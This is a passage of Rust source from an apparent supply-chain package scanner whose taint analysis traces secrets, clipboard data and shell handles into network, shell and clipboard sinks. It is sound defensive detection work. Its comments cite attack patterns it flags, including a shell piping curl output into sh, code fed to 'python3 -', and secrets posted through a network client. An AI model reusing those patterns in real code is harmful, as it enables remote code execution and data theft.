    if written.is_empty() {
        return None;
    }
    // What the caller handed in: the parameters, `self`'s fields, and names bound from them
    // (`let emit = |e| callback(e)`, `let Builder { callback, .. } = self`), to a fixed point
    // of a few rounds. A closure the function makes of nothing of its caller's is its own.
    let mut values: Vec<&String> = function.params.iter().flatten().collect();
    let self_name = "self".to_owned();
    values.push(&self_name);
    for _ in 0..MAX_CALLBACK_ROUNDS {
        let before = values.len();
        for statement in &function.statements {
            if statement.uses.iter().any(|u| values.contains(&u)) {
                for def in &statement.defs {
                    if !values.contains(&def) {
                        values.push(def);
                    }
                }
            }
        }
        if values.len() == before {
            break;
        }
    }
    values.retain(|v| **v != self_name);
    function
        .calls
        .iter()
        .find(|call| {
            !call.method
                && call.qualifier.is_none()
                && call.line >= write_line
                && values.contains(&&call.callee)
                && call
                    .args
                    .iter()
                    .flatten()
                    .filter(meaningful)
                    .any(|arg| written.contains(&arg))
        })
        .map(|call| (call.callee.clone(), call.line))
}

/// The crate's functions a call may reach, with few types: for a method called on a field of
/// `self`, the methods of that name of the field's declared type, when the crate has any; for a
/// call on `self`, the caller's type's methods of that name; for a method call on anything
/// else, the crate's one method of that name, unless the name is common ([`COMMON_METHODS`]:
/// `map.get(k)` is not the crate's `get`), or every method of a name one of the crate's traits
/// declares (a call through a trait object, `step.apply(&payload)`, reaches any of its
/// implementations); for a call through a path (`Type::new()`), a function of that type or a
/// free function.
fn callees<'f>(
    by_name: &'f HashMap<&str, Vec<&'f FunctionFlow>>,
    modules: &'f HashSet<&str>,
    trait_methods: &'f HashMap<&str, Vec<&str>>,
    field_types: &'f StructFields<'f>,
    caller: &'f FunctionFlow,
    call: &'f CallSite,
) -> impl Iterator<Item = &'f FunctionFlow> + 'f {
    let candidates = by_name
        .get(call.callee.as_str())
        .map_or(&[][..], Vec::as_slice);
    // A method called on a field of `self` (`self.rule.apply(…)`), or on a variable whose type
    // is declared (`backend.read()` for `backend: Backend`): the method of that type, or of a
    // trait it names (`Box<dyn Rule>`), when the crate has one.
    // Or on a variable bound to what one of the crate's free functions returns (`let b =
    // backend::detected()`): the type it declares.
    // Only through the crate's own modules (`reqwest::blocking::get(url)` is not the crate's
    // `get`), and a name few functions share; the types deduplicated and as few as a field's.
    let returned: Vec<String> = match (&call.receiver_made_by, call.receiver_types.is_empty()) {
        (Some((module, maker)), true) if module.as_deref().is_none_or(|m| modules.contains(m)) => {
            let makers: Vec<&FunctionFlow> = by_name
                .get(maker.as_str())
                .into_iter()
                .flatten()
                .copied()
                .filter(|function| !function.method && function.owner.is_none())
                .take(MAX_MAKERS + 1)
                .collect();
            let mut types: Vec<String> = Vec::new();
            for function in makers.iter().take(MAX_MAKERS) {
                for name in &function.returns {
                    if !types.contains(name) {
                        types.push(name.clone());
                    }
                }
            }
            if makers.len() > MAX_MAKERS || types.len() > MAX_RETURNED_TYPES {
                Vec::new()
            } else {
                types
            }
        }
        _ => Vec::new(),
    };
    let of_type: std::borrow::Cow<'f, [String]> = match (&call.receiver_field, &caller.owner) {
        (Some(field), Some(owner)) => field_types.types(caller.scope, owner, field).into(),
        _ if !returned.is_empty() => returned.into(),
        _ => call.receiver_types.as_slice().into(),
    };
    let by_declared_type =
        !of_type.is_empty() && candidates.iter().any(|f| method_of_types(f, &of_type));
    let declared_type = move |function: &FunctionFlow| method_of_types(function, &of_type);
    // The traits of the crate that declare the method called: their implementations only (an
    // inherent `get` of another type is not reached through a trait's `get`).
    let declaring: &[&str] = if call.method && !call.on_self {
        trait_methods
            .get(call.callee.as_str())
            .map_or(&[][..], Vec::as_slice)
    } else {
        &[]
    };
    // Counted only for calls that need it, and only as far as a second method.
    let unique_method = call.method
        && !call.on_self
        && !COMMON_METHODS.contains(&call.callee.as_str())
        && candidates.iter().filter(|f| f.method).take(2).count() == 1;
    candidates.iter().copied().filter(move |function| {
        if by_declared_type {
            return declared_type(function);
        }
        if call.method {
            return function.method
                && if call.on_self {
                    caller.owner.is_none() || function.owner == caller.owner
                } else {
                    unique_method
                        || function
                            .implements
                            .as_deref()
                            .is_some_and(|t| declaring.contains(&t))
                };
        }
        if function.method {
            return false;
        }
        match (&function.owner, &call.qualifier) {
            (None, None) => true,
            (None, Some(qualifier)) => modules.contains(qualifier.as_str()),
            // `Self::new(…)` is the caller's own type's (where the caller has one), or, in a
            // trait's default method, any implementation's.
            (Some(owner), Some(qualifier)) => {
                owner == qualifier
                    || (qualifier == "Self"
                        && caller.owner.as_ref().is_none_or(|own| {
                            own == owner || function.implements.as_ref() == Some(own)
                        }))
            }
            (Some(_), None) => false,
        }
    })
}

/// Most free functions of one name whose declared return types type a receiver (see
/// [`callees`]): more, and the name says nothing of the type.
const MAX_MAKERS: usize = 4;

/// Most types a receiver is taken to have from what its maker returns.
const MAX_RETURNED_TYPES: usize = 8;

/// Whether `function` is a method of one of `types`, or of a trait one of them names.
fn method_of_types(function: &FunctionFlow, types: &[String]) -> bool {
    function.method
        && [&function.owner, &function.implements]
            .into_iter()
            .flatten()
            .any(|name| types.contains(name))
}

/// What a target's functions share while they are analysed.
struct Target<'t> {
    /// The sources and sinks on each statement, by function.
    own: &'t HashMap<(u32, usize), Own>,
    /// What file-level constants carry.
    globals: &'t HashMap<String, u64>,
    /// Sources by function and line.
    line_sources: &'t HashMap<(u32, u32), u64>,
    /// Sources by function: (line, sources).
    scope_sources: &'t HashMap<u32, Vec<(u32, u64)>>,
    /// What each call (function scope, index among its calls) may reach.
    call_callees: &'t HashMap<(u32, usize), Vec<u32>>,
    /// Where the first connection is made: the evidence of a send through one.
    connection: Option<usize>,
    /// Where the first shell or interpreter is started: the evidence of code written to one.
    shell: Option<usize>,
    /// Where the first clipboard tool that writes is named: the evidence of text written to a
    /// program started from a table of such tools.
    clipboard_tool_writer: Option<usize>,
    /// The statements each call (function scope, index among its calls) is on.
    call_statements: &'t HashMap<(u32, usize), Vec<usize>>,
    /// The line of each file write and the identifiers of its destination, by signal.
    destinations: &'t HashMap<usize, (u32, Vec<String>)>,
    /// Clipboard signals that are a tool's name in the code (`"pbcopy"`), by signal.
    clipboard_tools: &'t HashSet<usize>,
    /// The lines of the function that name a clipboard tool that reads.
    clipboard_tool_readers: &'t [u32],
    /// Clipboard writes that are calls of a function named so, by signal: the path before the
    /// name (`clipboard` in `clipboard::set_text`), if any, and the name.
    clipboard_writers: &'t HashMap<usize, (Option<&'t str>, &'t str)>,
    /// What the crate's functions write into the fields of its structs, by the names
    /// [`StructFields::key`] gives them.
    fields: &'t HashMap<String, u64>,
    /// The fields the function names, by the name its statements use, with the name each is
    /// stored under ([`StructFields::field_key`]).
    field_keys: &'t HashMap<&'t str, String>,
}

/// The fields of a target's structs: their declared types, and the name each is stored under.
struct StructFields<'f> {
    /// The file each function is in.
    file_of: HashMap<u32, &'f str>,
    /// Struct names declared in more than one file (a `Builder` per module): their fields are
    /// told apart by the file, and a method reaches them only from that file.
    ambiguous: HashSet<&'f str>,
    /// The declared types of each field, by (file, struct, field).
    types: HashMap<(&'f str, &'f str, &'f str), &'f [String]>,
    /// The same for structs declared once, by (struct, field).
    unique: HashMap<(&'f str, &'f str), &'f [String]>,
}

impl<'f> StructFields<'f> {
    fn new(files: &[&'f FileFlow]) -> Self {
        let mut declared_in: HashMap<&str, &str> = HashMap::default();
        let mut ambiguous = HashSet::default();
        let mut types = HashMap::default();
        for file in files {
            for (owner, field, declared) in &file.field_types {
                match declared_in.insert(owner, &file.file) {
                    Some(other) if other != file.file => {
                        ambiguous.insert(owner.as_str());
                    }
                    _ => {}
                }
                types.insert(
                    (file.file.as_str(), owner.as_str(), field.as_str()),
                    declared.as_slice(),
                );
            }
        }
        let unique = types
            .iter()
            .filter(|((_, owner, _), _)| !ambiguous.contains(owner))
            .map(|(&(_, owner, field), &declared)| ((owner, field), declared))
            .collect();
        let file_of = files
            .iter()
            .flat_map(|file| file.functions.iter().map(|f| (f.scope, file.file.as_str())))
            .collect();
        StructFields {
            file_of,
            ambiguous,
            types,
            unique,
        }
    }

    /// The name a field of `owner` is stored under, for a function: `Plan.roots`, or
    /// `src/retain.rs#Plan.roots` for a struct name several files declare.
    fn key(&self, scope: u32, owner: &str, field: &str) -> String {
        match self.file_of.get(&scope) {
            Some(file) if self.ambiguous.contains(owner) => format!("{file}#{owner}.{field}"),
            _ => format!("{owner}.{field}"),
        }
    }

    /// The name a field named so in a function's statements is stored under: `self.roots` in a
    /// method of `Plan`, and a struct literal's `Self.roots` there, are `Plan.roots`; a literal's
    /// `Plan.roots` is so.
    fn field_key(&self, function: &FunctionFlow, name: &str) -> Option<String> {
        let key = |owner: &str, field: &str| self.key(function.scope, owner, field);
        match name
            .strip_prefix("self.")
            .or_else(|| name.strip_prefix("Self."))
        {
            Some(field) => function.owner.as_deref().map(|owner| key(owner, field)),
            None => name.split_once('.').map(|(owner, field)| key(owner, field)),
        }
    }

    /// The types a field of `owner` is declared with, seen from a function.
    fn types(&self, scope: u32, owner: &str, field: &str) -> &'f [String] {
        let here = self
            .file_of
            .get(&scope)
            .and_then(|file| self.types.get(&(*file, owner, field)));
        here.or_else(|| self.unique.get(&(owner, field)))
            .copied()
            .unwrap_or_default()
    }
}

/// A private bit beside the sources: a clipboard tool's name from a row of a table of tools
/// (see `tool_rows` in [`analyse_function`]), which is what was copied only once the output of
/// the program it names is read. Never reported as a source of its own.
const CLIPBOARD_TOOL: u64 = 1 << (PARAM_SHIFT - 1);

/// A private bit beside the sources: a clipboard tool that writes (`wl-copy`, `xclip -i`),
/// named where a value is made (`Command::new("pbcopy")` in a helper that returns the command,
/// a `("wl-copy", &[])` arm of a table): what is written to the input of a program started
/// from that value goes onto the clipboard, in whichever function it is started. Never
/// reported as a source of its own.
const CLIPBOARD_WRITER: u64 = 1 << (PARAM_SHIFT - 2);

/// Calls that read what a started program printed.
const OUTPUT_READS: [&str; 5] = [
    "output",
    "read_line",
    "read_to_end",
    "read_to_string",
    "wait_with_output",
];

/// Sources a field of a struct does not carry (see [`write_field`]).
const FIELD_EXCLUDED: u64 =
    Source::Clipboard.bit() | Source::Network.bit() | Source::ShellProcess.bit() | CLIPBOARD_WRITER;

/// Records that a function writes `bits` into a field: the sources for every reader of the
/// field, the parameters for every caller. Fields carry what the code found or was given
/// (paths, secrets, walked files, decoded data, hidden destinations), not live handles and
/// streams, whose fields are judged by their declared type (see `syntax`'s connection fields):
/// a client's configuration kept beside its connection would otherwise carry the connection
/// into every method. Nor the clipboard: a history of what was copied, kept in a field and put
/// back when the user picks an entry, is what clipboard managers are for, and a field cannot
/// tell that write-back from a swap.
fn write_field(summary: &mut Summary, key: String, bits: u64) {
    for param in params_of(bits) {
        if let Some(fields) = summary.param_fields.get_mut(param) {
            fields.insert(key.clone());
        }
    }
    let kept = bits & SOURCE_MASK & !FIELD_EXCLUDED;
    if kept != 0 {
        *summary.fields.entry(key).or_default() |= kept;
    }
}

/// One pass over a function with the current summaries: its own summary, and the flows found.
fn analyse_function(
    function: &FunctionFlow,
    target: &Target<'_>,
    summaries: &HashMap<u32, Summary>,
    found: &mut BTreeMap<(Source, Sink, usize), Option<u32>>,
) -> Summary {
    let Target {
        own,
        globals,
        line_sources,
        scope_sources,
        call_callees,
        connection,
        shell,
        clipboard_tool_writer,
        call_statements,
        destinations,
        clipboard_tools,
        clipboard_tool_readers,
        clipboard_writers,
        fields,
        field_keys,
    } = *target;
    // Statements that name both a clipboard tool that reads and one that writes: a row of a
    // table of tools (`CommandSource::new("xclip", &["xclip", "-o"], &["xclip", "-i"])`), or a
    // table of them. The reader's name there is a program's name, not what was copied: what
    // the statement binds or fills carries [`CLIPBOARD_TOOL`] instead, which becomes the
    // clipboard where the output of a program started from it is read.
    let tool_rows: Vec<bool> = function
        .statements
        .iter()
        .enumerate()
        .map(|(index, statement)| {
            let names_reader = clipboard_tool_readers
                .iter()
                .any(|line| statement.first <= *line && *line <= statement.last);
            names_reader
                && own.get(&(function.scope, index)).is_some_and(|o| {
                    o.sinks.iter().any(|(sink, signal)| {
                        *sink == Sink::Clipboard && clipboard_tools.contains(signal)
                    })
                })
        })
        .collect();
    // Statements that name a clipboard tool that writes: what they bind or return carries
    // [`CLIPBOARD_WRITER`].
    let writer_rows: Vec<bool> = (0..function.statements.len())
        .map(|index| {
            own.get(&(function.scope, index)).is_some_and(|o| {
                o.sinks.iter().any(|(sink, signal)| {
                    *sink == Sink::Clipboard && clipboard_tools.contains(signal)
                })
            })
        })
        .collect();
    // Statements that read a started program's output (`.output()`, a read of its `stdout`).
    let reads_output: HashSet<usize> = function
        .calls
        .iter()
        .enumerate()
        .filter(|(_, call)| OUTPUT_READS.contains(&call.callee.as_str()))
        .flat_map(|(index, _)| {
            call_statements
                .get(&(function.scope, index))
                .into_iter()
                .flatten()
                .copied()
        })
        .collect();
    let no_callees = Vec::new();
    let callees_of = |index: usize| {
        call_callees
            .get(&(function.scope, index))
            .unwrap_or(&no_callees)
    };
    let params = function.params.len().min(MAX_PARAMS);
    let mut summary = Summary {
        returns: 0,
        param_sinks: vec![BTreeMap::new(); params],
        param_meets: vec![0; params],
        param_fills: vec![0; params],
        param_called: vec![0; params],
        fields: BTreeMap::new(),
        param_fields: vec![std::collections::BTreeSet::new(); params],
    };
    let mut locals: HashMap<&str, u64> = HashMap::default();
    for (index, names) in function.params.iter().take(MAX_PARAMS).enumerate() {
        for name in names {
            *locals.entry(name.as_str()).or_default() |= param_bit(index);
        }
    }
    let taint_of = |locals: &HashMap<&str, u64>, name: &str| -> u64 {
        // A field of `self`, or a static, holds what the crate's functions write into it.
        let written = if name.starts_with("self.") || !name.contains('.') {
            field_keys
                .get(name)
                .and_then(|key| fields.get(key))
                .copied()
                .unwrap_or(0)
        } else {
            0
        };
        locals.get(name).copied().unwrap_or(0) | globals.get(name).copied().unwrap_or(0) | written
    };
    let param_index = |name: &str| {
        function
            .params
            .iter()
            .take(params)
            .position(|names| names.iter().any(|n| n == name))
            .filter(|&at| function.filled.get(at).copied().unwrap_or(false))
    };
    // What the crate's functions called here put into the variables handed to them
    // (`collect(&root, &mut files)`): those variables hold it from the start, as a loop's
    // later statement does.
    for (call_index, call) in function.calls.iter().enumerate() {
        for (position, arg) in call.args.iter().enumerate() {
            let fills = callees_of(call_index)
                .iter()
                .filter_map(|callee| summaries.get(callee))
                .filter_map(|summary| summary.param_fills.get(position))
                .fold(0, |all, bits| all | bits);
            if fills == 0 {
                continue;
            }
            for name in arg {
                *locals.entry(name.as_str()).or_default() |= fills;
                if let Some(param) = param_index(name) {
                    summary.param_fills[param] |= fills;
                }
            }
        }
    }
    // A closure handed to a function of the crate that calls it with what it found (`walk(&root,
    // &mut |path| wipe(path))`): the closure's parameters hold that from the start. The
    // argument's identifiers stand for them (the closure's own, and the few its body names).
    for (call_index, call) in function.calls.iter().enumerate() {
        for (position, arg) in call.args.iter().enumerate() {
            let called = callees_of(call_index)
                .iter()
                .filter_map(|callee| summaries.get(callee))
                .filter_map(|summary| summary.param_called.get(position))
                .fold(0, |all, bits| all | bits);
            if called == 0 {
                continue;
            }
            for name in arg {
                *locals.entry(name.as_str()).or_default() |= called;
            }
        }
    }
    // What each statement gave each binding it defines: a written file's destination is judged
    // by what its path held before the write (`fs::write(&path, data)` makes `path` carry
    // `data` for what is done with it afterwards, not for where the data went).
    let mut given: HashMap<&str, Vec<(usize, u64)>> = HashMap::default();
    // The calls on each statement: what they give back, and those that send through the value
    // they are called on.
    let mut call_returns: HashMap<usize, u64> = HashMap::default();
    // The same, call by call, with the name called.
    let mut returns_by_call: HashMap<usize, Vec<(&CallSite, u64)>> = HashMap::default();
    let mut sends_on: HashMap<usize, Vec<&str>> = HashMap::default();
    let mut sends_fresh: HashSet<usize> = HashSet::default();
    // The calls whose result carries something, with their line and name: handed straight to
    // another call (`Plan::new(home())`), that result is the argument.
    let mut returning: Vec<(usize, u32, &str, u64)> = Vec::new();
    for (call_index, call) in function.calls.iter().enumerate() {
        let returns = callees_of(call_index)
            .iter()
            .filter_map(|callee| summaries.get(callee))
            .fold(0, |all, summary| all | summary.returns);
        if returns != 0 {
            returning.push((call_index, call.line, call.callee.as_str(), returns));
        }
        // A request's verb sends where it is called on a client handed in or built in the chain.
        let on_client = call
            .receiver
            .as_ref()
            .or(match &call.chain {
                Some(ChainRoot::Variable(root)) => Some(root),
                _ => None,
            })
            .is_some_and(|root| function.network_params.contains(root))
            || call.chain == Some(ChainRoot::NetworkCrate);
        let sending_method = SENDING_METHODS.contains(&call.callee.as_str())
            || (on_client && REQUEST_VERBS.contains(&call.callee.as_str()));
        let sending = call
            .receiver
            .as_deref()
            .or(match &call.chain {
                Some(ChainRoot::Variable(root)) => Some(root.as_str()),
                _ => None,
            })
            .filter(|_| sending_method);
        // A request built and sent in one chain from a network crate's constructor
        // (`reqwest::blocking::Client::new().post(URL).multipart(form).send()`): what goes
        // into it is sent, whichever line of the function made a connection first.
        let sends_new = sending_method && call.chain == Some(ChainRoot::NetworkCrate);
        let statements = call_statements.get(&(function.scope, call_index));
        for &statement in statements.into_iter().flatten() {
            if returns != 0 {
                *call_returns.entry(statement).or_default() |= returns;
                returns_by_call
                    .entry(statement)
                    .or_default()
                    .push((call, returns));
            }
            if let Some(receiver) = sending {
                sends_on.entry(statement).or_default().push(receiver);
            }
            if sends_new {
                sends_fresh.insert(statement);
            }
        }
    }
    // Files opened for writing, by the name of the handle (`let mut file =
    // OpenOptions::new().append(true).open(&rc)?`), with the write's signal: what is later
    // written through the handle (`writeln!(file, …)`, `file.write_all(…)`) is written there.
    // Each binding of a name, by line, with the write its statement opens if any: a handle is
    // the latest binding of its name before the call (`let mut out = String::new()` after
    // `let mut out = File::create(&rc)?` is a buffer). Writing through a handle
    // (`writeln!(out, …)`) fills it without binding it again.
    let mut writes_on: HashMap<usize, Vec<usize>> = HashMap::default();
    let opens_a_write = |index: usize| {
        own.get(&(function.scope, index)).and_then(|mine| {
            mine.sinks
                .iter()
                .find(|(sink, _)| *sink == Sink::Write)
                .map(|(_, signal)| *signal)
        })
    };
    if (0..function.statements.len()).any(|index| opens_a_write(index).is_some()) {
        let write_calls: Vec<(usize, &str)> = function
            .calls
            .iter()
            .enumerate()
            .filter(|(_, call)| matches!(call.callee.as_str(), "write" | "write_all" | "write_fmt"))
            .filter_map(|(index, call)| Some((index, call.receiver.as_deref()?)))
            .collect();
        let mut fills: HashSet<(usize, &str)> = HashSet::default();
        for &(call_index, receiver) in &write_calls {
            for &statement in call_statements
                .get(&(function.scope, call_index))
                .into_iter()
                .flatten()
            {
                fills.insert((statement, receiver));
            }
        }
        let mut bindings: HashMap<&str, Vec<(u32, Option<usize>)>> = HashMap::default();
        for (index, statement) in function.statements.iter().enumerate() {
            for def in &statement.defs {
                if !fills.contains(&(index, def.as_str())) {
                    bindings
                        .entry(def.as_str())
                        .or_default()
                        .push((statement.first, opens_a_write(index)));
                }
            }
        }
        for (call_index, receiver) in write_calls {
            let line = function.calls[call_index].line;
            let latest = bindings.get(receiver).and_then(|bound| {
                bound
                    .iter()
                    .filter(|(at, _)| *at <= line)
                    .max_by_key(|(at, _)| *at)
            });
            let Some(&(_, Some(signal))) = latest else {
                continue;
            };
            for &statement in call_statements
                .get(&(function.scope, call_index))
                .into_iter()
                .flatten()
            {
                writes_on.entry(statement).or_default().push(signal);
            }
        }
    }
    // A binding or a returned value holds what the code nested in it computes (a closure's
    // result, a block's tail): the sources on all its lines count, not only those no inner
    // statement claims.
    let nested: Vec<u64> = function
        .statements
        .iter()
        .map(|statement| {
            if statement.defs.is_empty() && !statement.returns {
                return 0;
            }
            scope_sources
                .get(&function.scope)
                .into_iter()
                .flatten()
                .filter(|(line, _)| statement.first <= *line && *line <= statement.last)
                .fold(0, |all, (_, bits)| all | bits)
        })
        .collect();
    // Until nothing changes (bounded): a loop's later statement can taint an earlier one.
    for _ in 0..MAX_PASSES {
        let mut changed = false;
        for (index, statement) in function.statements.iter().enumerate() {
            let mine = own.get(&(function.scope, index));
            let mut bits = mine.map_or(0, |o| o.sources)
                | call_returns.get(&index).copied().unwrap_or(0)
                | nested[index];
            // A shell's handles met by a connection's (used here, not the shell started here
            // with a command line from the network, which is the remote-control rule's).
            let mut uses_network = false;
            let mut used = 0;
            // What the fields of a struct literal in the statement were written with: part of
            // this statement's own expression, not another statement's value.
            let mut literal_fields = 0;
            for name in &statement.uses {
                let taint = taint_of(&locals, name);
                uses_network |= taint & Source::Network.bit() != 0;
                if name.contains('.') && !name.starts_with("self.") {
                    literal_fields |= taint;
                } else {
                    used |= taint;
                }
            }
            let from_elsewhere = used;
            used |= literal_fields;
            bits |= used;
            // The output of a program started from a clipboard tool's name is what was copied.
            if bits & CLIPBOARD_TOOL != 0 && reads_output.contains(&index) {
                bits |= Source::Clipboard.bit();
            }
            let bound = if tool_rows[index]
                && bits & Source::Clipboard.bit() != 0
                && from_elsewhere & Source::Clipboard.bit() == 0
            {
                (bits & !Source::Clipboard.bit()) | CLIPBOARD_TOOL
            } else {
                bits
            };
            let bound = if writer_rows[index] {
                bound | CLIPBOARD_WRITER
            } else {
                bound
            };
            for def in &statement.defs {
                if let Some(param) = param_index(def) {
                    summary.param_fills[param] |= bound & SOURCE_MASK;
                }
                if let (Some(key), true) = (field_keys.get(def.as_str()), bound != 0) {
                    write_field(&mut summary, key.clone(), bound);
                }
                let entry = locals.entry(def.as_str()).or_default();
                changed |= *entry | bound != *entry;
                *entry |= bound;
                let givers = given.entry(def.as_str()).or_default();
                match givers.iter_mut().find(|(at, _)| *at == index) {
                    Some((_, gave)) => *gave |= bound,
                    None => givers.push((index, bound)),
                }
            }
            if statement.returns {
                summary.returns |= bound & SOURCE_MASK;
            }
            let mut sinks: Vec<(Sink, usize)> = mine.map(|o| o.sinks.clone()).unwrap_or_default();
            for &signal in writes_on.get(&index).into_iter().flatten() {
                if !sinks.contains(&(Sink::Write, signal)) {
                    sinks.push((Sink::Write, signal));
                }
            }
            let own_network = sinks.iter().any(|(s, _)| *s == Sink::Network);
            // A send: a call that sends through a connection (or a program that sends).
            let mut sends = sends_fresh.contains(&index);
            // Written to a started shell's or interpreter's input (`python3 -`, `sh -s`): its
            // program, as surely as one on its command line.
            let mut feeds_shell = false;
            // Written to the input of a program started from a clipboard tool (`pbcopy`,
            // `xclip -in`), chosen from a table of them: the clipboard, with what the statement
            // hands it, not what the program's own handle carries.
            let mut clipboard_feed: Vec<&str> = Vec::new();
            for receiver in sends_on.get(&index).into_iter().flatten() {
                let through = taint_of(&locals, receiver);
                if through & Source::Network.bit() != 0 {
                    sends = true;
                }
                if through & Source::ShellProcess.bit() != 0 {
                    feeds_shell = true;
                }
                if through & (Source::Clipboard.bit() | CLIPBOARD_TOOL | CLIPBOARD_WRITER) != 0
                    && clipboard_tool_writer.is_some()
                {
                    clipboard_feed.push(receiver);
                }
                // A parameter that a secret is sent through here.
                for param in params_of(through) {
                    if param < params {
                        summary.param_meets[param] |= bits & SOURCE_MASK;
                    }
                }
            }
            let computed_command = sinks.iter().any(|(s, _)| *s == Sink::Shell);
            let wires_shell =
                uses_network && bits & Source::ShellProcess.bit() != 0 && !computed_command;
            if (sends || wires_shell) && !own_network {
                // The evidence is where the connection was made.
                if let Some(signal) = connection {
                    sinks.push((Sink::Network, signal));
                }
            }
            if feeds_shell && !computed_command {
                if let Some(signal) = shell {
                    sinks.push((Sink::Shell, signal));
                }
            }
            let fed_clipboard = clipboard_tool_writer.filter(|_| !clipboard_feed.is_empty());
            if let Some(signal) = fed_clipboard {
                sinks.push((Sink::Clipboard, signal));
            }
            // A shell started here that runs a downloader (`sh -c "curl … | sh"`) is the
            // download rule's: a shell's handles or output must come from an earlier statement.
            let shell_used = used & Source::ShellProcess.bit() != 0;
            for (sink, signal) in sinks {
                // A destination carries what the identifiers it is written with carry, not
                // everything the statement uses (`fs::write(cache, walked_names)` writes
                // walked names, not over walked files).
                let bits = if sink == Sink::WriteDestination {
                    let Some((line, words)) = destinations.get(&signal) else {
                        continue;
                    };
                    let before_write = |name: &str| {
                        let parameter = function
                            .params
                            .iter()
                            .take(MAX_PARAMS)
                            .enumerate()
                            .filter(|(_, names)| names.iter().any(|n| n == name))
                            .fold(0, |all, (at, _)| all | param_bit(at));
                        given
                            .get(name)
                            .into_iter()
                            .flatten()
                            .filter(|(at, _)| {
                                let giver = &function.statements[*at];
                                !(giver.first <= *line && *line <= giver.last)
                            })
                            .fold(
                                parameter | globals.get(name).copied().unwrap_or(0),
                                |all, (_, gave)| all | gave,
                            )
                    };
                    statement
                        .uses
                        .iter()
                        .filter(|name| words.contains(name))
                        .fold(0, |all, name| all | before_write(name))
                } else if sink == Sink::Clipboard && fed_clipboard == Some(signal) {
                    // Only what the function was handed (its parameters): in the function that
                    // starts the tool, every handle and value around the write carries the
                    // tool's table, whose row names the reader too. A caller that hands it what
                    // it read from the clipboard is a flow (through the call).
                    statement
                        .uses
                        .iter()
                        .filter(|name| !clipboard_feed.contains(&name.as_str()))
                        .fold(0, |all, name| all | taint_of(&locals, name))
                        & !SOURCE_MASK
                } else if let Some(&(path, name)) = clipboard_writers.get(&signal) {
                    // What a clipboard writer gives back (`set_text(a)?`, whose tool came from
                    // a table that names the reader too) is not what it was handed. Only the
                    // writer's own call: `set_text(&swap::set_text())` hands it another's.
                    let the_writer = |call: &CallSite| {
                        call.callee == name
                            && match path {
                                Some(path) => call.qualifier.as_deref() == Some(path),
                                None => call.method,
                            }
                    };
                    let others = returns_by_call
                        .get(&index)
                        .into_iter()
                        .flatten()
                        .filter(|(call, _)| !the_writer(call))
                        .fold(0, |all, (_, returns)| all | returns);
                    mine.map_or(0, |o| o.sources) | nested[index] | used | others
                } else {
                    bits
                };
                // A row of a table of clipboard tools (`(&["pbpaste"], &["pbcopy"])`) names a
                // reader and a writer; nothing read flows into the writer unless it comes from
                // another statement.
                let tool_row = sink == Sink::Clipboard
                    && clipboard_tools.contains(&signal)
                    && (from_elsewhere | call_returns.get(&index).copied().unwrap_or(0))
                        & Source::Clipboard.bit()
                        == 0;
                for source in sources_of(bits) {
                    if source == Source::Network && sink == Sink::Network
                        || source == Source::ShellProcess && sink == Sink::Network && !shell_used
                        // The shell's own handle, written to.
                        || source == Source::ShellProcess && sink == Sink::Shell
                        || source == Source::Clipboard && tool_row
                    {
                        continue;
                    }
                    found.entry((source, sink, signal)).or_insert(None);
                }
                for param in params_of(bits) {
                    if param < params {
                        summary.param_sinks[param].entry(sink).or_insert(signal);
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }
    // Parameters called as functions (`f(&path, len)`), with what they are handed.
    for call in &function.calls {
        if call.method || call.qualifier.is_some() || call.callee.is_empty() {
            continue;
        }
        let Some(param) = function
            .params
            .iter()
            .take(params)
            .position(|names| names.contains(&call.callee))
        else {
            continue;
        };
        let handed = call
            .args
            .iter()
            .flatten()
            .map(|name| taint_of(&locals, name))
            .fold(0, |all, bits| all | bits);
        summary.param_called[param] |= handed & SOURCE_MASK;
    }
    // Calls into functions of the crate.
    for (call_index, call) in function.calls.iter().enumerate() {
        let callees = callees_of(call_index);
        if callees.is_empty() {
            continue;
        }
        for (position, arg) in call.args.iter().enumerate() {
            let written = call.arg_lines.get(position).map_or(0, |&(first, last)| {
                let called_in_it = returning
                    .iter()
                    .filter(|&&(other, line, callee, _)| {
                        other != call_index
                            && first <= line
                            && line <= last
                            && arg.iter().any(|name| name == callee)
                    })
                    .fold(0, |all, &(_, _, _, returns)| all | returns);
                (first..=last)
                    .filter_map(|line| line_sources.get(&(function.scope, line)))
                    .fold(called_in_it, |a, b| a | b)
            });
            let bits = arg
                .iter()
                .map(|name| taint_of(&locals, name))
                .fold(written, |a, b| a | b);
            if bits == 0 {
                continue;
            }
            for callee in callees {
                let Some(callee_summary) = summaries.get(callee) else {
                    continue;
                };
                if let Some(sinks) = callee_summary.param_sinks.get(position) {
                    for (&sink, &signal) in sinks {
                        for source in sources_of(bits) {
                            if !(source == Source::Network && sink == Sink::Network) {
                                found
                                    .entry((source, sink, signal))
                                    .or_insert(Some(call.line));
                            }
                        }
                        for param in params_of(bits) {
                            if param < params {
                                summary.param_sinks[param].entry(sink).or_insert(signal);
                            }
                        }
                    }
                }
                // Handed to a function that keeps it in a field (`Plan::new(home)`).
                for field in callee_summary
                    .param_fields
                    .get(position)
                    .into_iter()
                    .flatten()
                {
                    write_field(&mut summary, field.clone(), bits);
                }
                // A connection handed to a function that puts a secret into what it is given.
                if let Some(&meets) = callee_summary.param_meets.get(position) {
                    if bits & Source::Network.bit() != 0 {
                        if let Some(signal) = connection {
                            for source in sources_of(meets) {
                                if source != Source::Network {
                                    found
                                        .entry((source, Sink::Network, signal))
                                        .or_insert(Some(call.line));
                                }
                            }
                        }
                    }
                }
            }
        }
    }
    summary
}

#[cfg(test)]
mod tests {
    use wharf_tarball::test_support::TarballBuilder;
    use wharf_tarball::{process_tarball, Limits};

    use super::{Sink, Source};
    use crate::scan::{scan_package, SignalKind};
    use crate::Verdict;

    fn report(source: &str) -> crate::scan::Report {
        let tarball = TarballBuilder::new()
            .file(
                "flows-0.1.0/Cargo.toml",
                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
                 description = \"x\"\nlicense = \"MIT\"\n\n[dependencies]\nureq = \"2\"\n",
            )
            .file("flows-0.1.0/src/lib.rs", source)
            .build();
        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
        scan_package(&tarball)
    }

    /// The findings of a library whose `src/lib.rs` is `source`, as (rule, severity).
    fn findings(source: &str) -> Vec<(String, Verdict)> {
        report(source)
            .findings
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    /// Asserts the most severe finding of `rule` (or that there is none).
    fn expect(findings: &[(String, Verdict)], rule: &str, wanted: Option<Verdict>) {
